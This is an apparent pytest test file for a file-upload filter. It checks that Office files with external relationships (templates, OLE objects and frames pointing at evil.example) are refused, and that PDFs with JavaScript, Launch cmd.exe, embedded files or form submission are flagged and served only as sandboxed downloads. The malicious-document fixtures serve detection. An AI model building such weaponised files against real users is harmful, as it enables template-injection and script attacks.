"""What a file would do by itself when it is opened: documents that fetch are refused, active PDFs are saved and never shown."""

import io
import zipfile
import zlib

import pytest

from keqiao.enterprises.models import EnterpriseFile
from keqiao.kernel.files import vault
from keqiao.kernel.files.active_pdf import is_active
from keqiao.kernel.files.file_errors import FetchesRefused
from keqiao.kernel.files.filetypes import DOCUMENTS, identify

MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def office(kind: str, *, relation: str = "", rels: str = "", members: tuple[str, ...] = ()) -> io.BytesIO:
    part, mark = MAIN[kind]
    types = f'<Types><Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{mark}"/></Types>'
    where = rels or f"{part.rpartition('/')[0]}/_rels/settings.xml.rels"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(part, "<x/>")
        archive.writestr(where, f"<Relationships>{relation}</Relationships>")
        for name in members:
            archive.writestr(name, "<x/>")
    return target


def leads(kind: str, target: str, mode: str = 'TargetMode="External"', base: str = RELATIONS) -> str:
    return f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" {mode}/>'


@pytest.mark.parametrize("kind", MAIN)
@pytest.mark.parametrize(
    "relation",
    [
        leads("attachedTemplate", "https://evil.example/t.dotm"),
        leads("oleObject", "file:///\\\\evil.example\\share\\x.xlsx"),
        leads("image", "https://evil.example/pixel.png"),
        leads("externalLinkPath", "rates.xlsx"),
        leads("frame", "https://evil.example/", base=STRICT),
        leads("attachedTemplate", "//evil.example/t.dotm", mode=""),  # said to lie within
        leads("subDocument", "x.docx", mode='TargetMode="external"'),
        leads("image", "mhtml:http://evil.example!x", mode='targetMode="Internal"'),
        leads("attachedTemplate", "t&#46;dotm").replace("<Rel", "<p:Rel").replace(" Id", ' xmlns:p="x" Id'),
    ],
)
def test_a_document_that_fetches_is_refused(kind, relation):
    with pytest.raises(FetchesRefused):
        identify(file=office(kind, relation=relation))


@pytest.mark.parametrize(
    "member", ["xl/externalLinks/externalLink1.xml", "XL/EXTERNALLINKS/x.xml", "xl/externalLinks/y.bin"]
)
def test_so_is_a_table_with_cells_of_another(member):
    with pytest.raises(FetchesRefused):
        identify(file=office("xlsx", members=(member,)))


@pytest.mark.parametrize("kind", MAIN)
@pytest.mark.parametrize(
    "relation",
    [
        "",
        leads("hyperlink", "https://www.gov.cn/"),
        leads("hyperlink", "mailto:a@b.example", base=STRICT),
        leads("image", "media/image1.png", mode=""),
        leads("styles", "/word/styles.xml", mode='TargetMode="Internal"'),
    ],
)
def test_links_to_click_and_its_own_parts_are_no_matter(kind, relation):
    assert identify(file=office(kind, relation=relation)).key == kind


def pdf(*objects: bytes) -> bytes:
    body = b"\n".join(b"%d 0 obj\n%s\nendobj" % (n, content) for n, content in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def stream(head: bytes, content: bytes, *, pack: bool = True) -> bytes:
    packed = zlib.compress(content) if pack else content
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (head, len(packed), packed)


JS = b"<</S /JavaScript /JS (app.alert(1))>>"
IN_STREAM = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
ACTIVE = {
    "script": pdf(b"<</OpenAction %s>>" % JS),
    "escaped": pdf(b"<</OpenAction <</S /J#61vaScript>>>>"),
    "launch": pdf(b"<</OpenAction <</S /Launch /F (cmd.exe)>>>>"),
    "embedded": pdf(b"<</Names <</EmbeddedFiles 3 0 R>>>>"),
    "form sent": pdf(b"<</A <</S /SubmitForm>>>>"),
    "in an object stream": pdf(stream(IN_STREAM, b"1 0 " + JS)),
    "in one that doesn't say its type": pdf(stream(b"/N 1 /First 4 /Filter /FlateDecode", b"1 0 " + JS)),
    "in one packed otherwise": pdf(
        stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", b"x")
    ),
    "in one with a predictor": pdf(stream(IN_STREAM + b" /DecodeParms <</Predictor 12>>", b"x")),
    "in one that isn't packed": pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 " + JS, pack=False)),
    "in a damaged one": pdf(stream(IN_STREAM, b"x").replace(b"x\x9c", b"??")),
    "added later": pdf(b"<</Type /Catalog>>") + pdf(b"<</AA <</O %s>>>>" % JS),
}
QUIET = {
    "plain": pdf(b"<</Type /Catalog /Pages 2 0 R>>"),
    "opened at a page": pdf(b"<</OpenAction [3 0 R /Fit]>>"),
    "with an outline": pdf(
        b"<</Type /Outlines /First 4 0 R /Last 4 0 R>>", stream(b"/Filter /DCTDecode", b"x")
    ),
    "with objects in a stream": pdf(stream(IN_STREAM, b"1 0 <</Type /Page>>")),
    "that speaks of it": pdf(stream(b"", b"BT (JavaScript and Launch) Tj ET", pack=False)),
    "with a picture": pdf(stream(b"/Filter /FlateDecode", b"/Java" * 400)),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_an_active_pdf_is_taken_and_known_as_one(name):
    assert identify(file=io.BytesIO(ACTIVE[name]), kinds=DOCUMENTS).key == "pdf+"


@pytest.mark.parametrize("name", QUIET)
def test_a_quiet_one_is_shown(name):
    assert is_active(QUIET[name]) is False


def test_an_object_stream_without_end_is_not_unpacked():
    """64 MB of nothing in 64 kB: what would be too much to look into is active."""
    assert is_active(pdf(stream(IN_STREAM, bytes(65 * 1024 * 1024))))


def test_it_leaves_the_house_as_a_file_to_save(world, db):
    blob = vault.store(
        file=io.BytesIO(ACTIVE["escaped"]), name="a.pdf", enterprise_id=world.ours.pk, level=1, actor_id=None
    )
    EnterpriseFile.objects.create(enterprise=world.ours, name="a", blob=blob)
    answer = world.visit("consultant").get(f"/files/{blob.pk}/")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["Content-Security-Policy"]
